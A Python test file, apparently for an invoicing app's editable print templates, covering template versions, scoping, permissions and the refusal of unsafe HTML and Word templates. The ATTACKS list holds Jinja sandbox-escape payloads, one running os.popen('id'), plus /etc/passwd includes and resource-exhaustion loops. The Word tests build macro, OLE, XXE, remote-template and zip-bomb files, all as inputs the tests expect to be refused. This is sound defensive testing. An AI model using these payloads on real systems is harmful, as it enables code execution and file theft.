"""Templates people change: versions, whom they are for, what is refused, what a fault says."""

import io
import zipfile
from datetime import date

import docx
import pytest
from sqlalchemy import select

from tradepost.core.access.access import Access
from tradepost.core.access.chain import AuditEntry
from tradepost.core.database.ids import new_id
from tradepost.core.errors import Forbidden, Invalid, Refusal
from tradepost.core.printing import confined, drop_template, keep_template, print_record
from tradepost.core.printing.checking import require_sound
from tradepost.core.printing.confined import BadTemplate
from tradepost.core.printing.editing import keep_tried, sample_paper, try_html
from tradepost.core.printing.fields import fields_of
from tradepost.core.printing.forms import form_of
from tradepost.core.printing.templates import Scope, go_back, versions

KIND = "toy_invoice"


@pytest.fixture
def invoice(clerk):
    return clerk.invoice(("Чай <b>", 2, 10), ("Sugar", 1, 5))


def keep(clerk, text, **more):
    with clerk.house.work() as work:
        return keep_template(work, KIND, "document", text.encode(), media="html", **more).id


def page(clerk, key, media="html", **more):
    with clerk.house.work(reads_only=True) as work:
        return print_record(work, KIND, key, media=media, **more).content


def test_an_html_template_of_people_makes_page_and_pdf(clerk, invoice):
    keep(
        clerk, "<h1>{{ doc.party }}</h1>{% for line in parts.lines %}[{{ line.item }}]{% endfor %}"
    )
    assert (
        page(clerk, invoice).decode() == "<h1>Tea &amp; &lt;Sugar&gt;</h1>[Чай &lt;b&gt;][Sugar]"
    )
    assert page(clerk, invoice, "pdf").startswith(b"%PDF-")


def test_it_may_extend_the_page_of_the_house_and_say_its_words(clerk, invoice):
    keep(clerk, '{% extends "core/page.html" %}{% block foot %}{{ _("Total") }}!{% endblock %}')
    shown = page(clerk, invoice, language="ru").decode()
    assert "Итого!" in shown
    assert "Двадцать пять рублей 00 копеек" in shown


def test_every_change_is_a_version_and_so_is_going_back(clerk, invoice):
    first = keep(clerk, "one", note="begun")
    keep(clerk, "two")
    assert page(clerk, invoice) == b"two"
    with clerk.house.work() as work:
        go_back(work, first)
    assert page(clerk, invoice) == b"one"
    with clerk.house.work() as work:
        drop_template(work, KIND, "document", media="html")
    assert b"<title>Invoice" in page(clerk, invoice)
    with clerk.house.work(reads_only=True) as work:
        found = versions(work, KIND, "document")
        told = [(one.number, bool(one.content), one.note) for one in found]
        trail = work.session.scalars(select(AuditEntry.action)).all()
    assert told == [
        (4, False, ""),
        (3, True, "снова версия 1"),
        (2, True, ""),
        (1, True, "begun"),
    ]
    assert [a for a in trail if a.startswith("template")].count("template_kept") == 3
    assert "template_dropped" in trail


def test_the_narrowest_template_that_fits_is_used(clerk, invoice):
    party = clerk.party.id
    keep(clerk, "all")
    keep(clerk, "ru", scope=Scope(language="ru"))
    keep(clerk, "later", scope=Scope(valid_from=date(2026, 4, 1)))
    assert page(clerk, invoice, language="en") == b"all"
    assert page(clerk, invoice, language="ru") == b"ru"
    keep(clerk, "from march", scope=Scope(valid_from=date(2026, 3, 1)))
    assert page(clerk, invoice, language="en") == b"from march"
    keep(clerk, "his", scope=Scope("toy_party", party))
    assert page(clerk, invoice, language="ru") == b"his"


def test_a_template_is_for_a_record_that_is_there(clerk):
    with pytest.raises(Invalid):
        keep(clerk, "x", scope=Scope("toy_party", new_id()))
    with pytest.raises(Invalid):
        keep(clerk, "x", scope=Scope(language="xx"))


def test_only_who_may_changes_it(clerk):
    with clerk.house.work(access=Access(None, "anna")) as work, pytest.raises(Forbidden):
        keep_template(work, KIND, "document", b"x", media="html")


ATTACKS = [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ doc.__class__ }}",
    "{{ doc.update({'party': 'x'}) }}",
    "{{ _.__globals__ }}",
    "{{ _.__closure__ }}",
    "{{ _.__call__.__self__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__ }}",
    "{{ ('%s' % doc)|attr('__class__') }}",
    "{% include '/etc/passwd' %}",
    "{% include 'core/../forms.py' %}",
    "{% import 'os' as os %}{{ os }}",
    "{{ range(999999999) | list }}",
    "{{ 'x' * 9999999999 }}",
    "{% for one in fields %}",
    "{{ no_such_thing }}",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_html_template_reaches_nothing(clerk, invoice, attack):
    with clerk.house.work() as work, pytest.raises(Refusal):
        keep_tried(work, form_of(clerk.house, KIND, "document"), attack.encode(), media="html")


def test_words_put_into_a_text_reach_nothing(clerk, invoice):
    keep(clerk, "{{ _('{x.__class__} {x}', x=doc.party) }}")
    assert page(clerk, invoice) == b"{x.__class__} Tea &amp; &lt;Sugar&gt;"


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("<p>\n{{ doc.nothing }}", 2),
        ("<p>\n\n{% if %}", 3),
        ('{% extends "core/page.html" %}\n{% block foot %}\n\n{{ nothing }}\n{% endblock %}', 4),
        ("a\n<script>alert(1)</script>", 2),
        ("a\nb\n\n<iframe src=x>", 4),
    ],
)
def test_a_fault_names_its_line(clerk, invoice, text, line):
    with clerk.house.work(reads_only=True) as work, pytest.raises(BadTemplate) as refusal:
        try_html(sample_paper(work, KIND, "document"), text)
    assert refusal.value.line == line


def test_an_html_template_that_goes_on_for_ever_is_ended(clerk, invoice, monkeypatch):
    monkeypatch.setattr(confined, "SECONDS", 2)
    endless = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
    keep(clerk, endless)
    with pytest.raises(BadTemplate, match="too long"):
        page(clerk, invoice)


@pytest.mark.parametrize("content", [b"\xff\xfe", b"x" * (513 << 10)])
def test_what_is_no_template_is_refused(content):
    with pytest.raises(Invalid):
        require_sound(content, "html")


# --- Word files that are more than paper ---------------------------------------------------


def word(**parts):
    """A Word file with further parts, or others in place of its own."""
    plain = io.BytesIO()
    docx.Document().save(plain)
    made = io.BytesIO()
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(made, "w") as new:
        for name in old.namelist():
            if name not in parts:
                new.writestr(name, old.read(name))
        for name, content in parts.items():
            new.writestr(name, content)
    return made.getvalue()


RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
TYPE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relation(kind, target, mode="External"):
    return RELS.format(
        f'<Relationship Id="r1" Type="{TYPE}{kind}" Target="{target}" TargetMode="{mode}"/>'
    )


@pytest.mark.parametrize(
    "parts",
    [
        {"word/vbaProject.bin": b"x"},
        {"word/embeddings/oleObject1.bin": b"x"},
        {"word/activeX/activeX1.xml": b"<x/>"},
        {"[Content_Types].xml": b"<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"},
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://x/evil.dotm").encode()},
        {"word/_rels/document.xml.rels": relation("image", "file:///etc/passwd").encode()},
        {"word/_rels/document.xml.rels": relation("hyperlink", "file:///etc/passwd").encode()},
        {"word/document.xml": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'},
        {"word/document.xml": "<!DOCTYPE x>".encode("utf-16")},
        {"word/document.xml": b'<w:altChunk r:id="r1"/>'},
    ],
)  # fmt: skip
def test_a_word_file_that_is_more_than_paper_is_refused(parts):
    with pytest.raises(Invalid):
        require_sound(word(**parts), "docx")


def test_a_plain_word_file_with_a_link_is_taken():
    link = relation("hyperlink", "https://example.com").encode()
    require_sound(word(**{"word/_rels/footnotes.xml.rels": link}), "docx")


def test_a_word_file_that_lies_about_its_size_is_refused():
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("word/document.xml", b"0" * (60 << 20))
    lying = bytearray(bomb.getvalue())
    size = (60 << 20).to_bytes(4, "little")
    while (at := lying.find(size)) >= 0:
        lying[at : at + 4] = (100).to_bytes(4, "little")
    with pytest.raises(Invalid):
        require_sound(bytes(lying), "docx")


# --- what a form may use -------------------------------------------------------------------


def test_the_fields_are_listed_with_samples_and_marks(clerk, invoice):
    with clerk.house.work(reads_only=True) as work:
        paper = sample_paper(work, KIND, "document")
        found = {one.path: one for one in fields_of(work, paper.form, paper.context)}
    assert (found["doc.party"].label, found["doc.party"].sample) == ("Customer", "Tea & <Sugar>")
    assert found["line.item"].html == "{{ line.item }}"
    assert found["parts.lines"].word.startswith("{%tr for line in parts.lines %}")
    assert found["parts.lines"].sample == "× 2"


def test_each_field_that_is_listed_fills_in(clerk, invoice):
    with clerk.house.work(reads_only=True) as work:
        paper = sample_paper(work, KIND, "document")
        marks = [
            one.html
            for one in fields_of(work, paper.form, paper.context)
            if one.html and one.path.split(".")[0].split("[")[0] in paper.context and not one.group
        ]
        assert len(marks) > 15
        assert try_html(paper, "\n".join(marks))
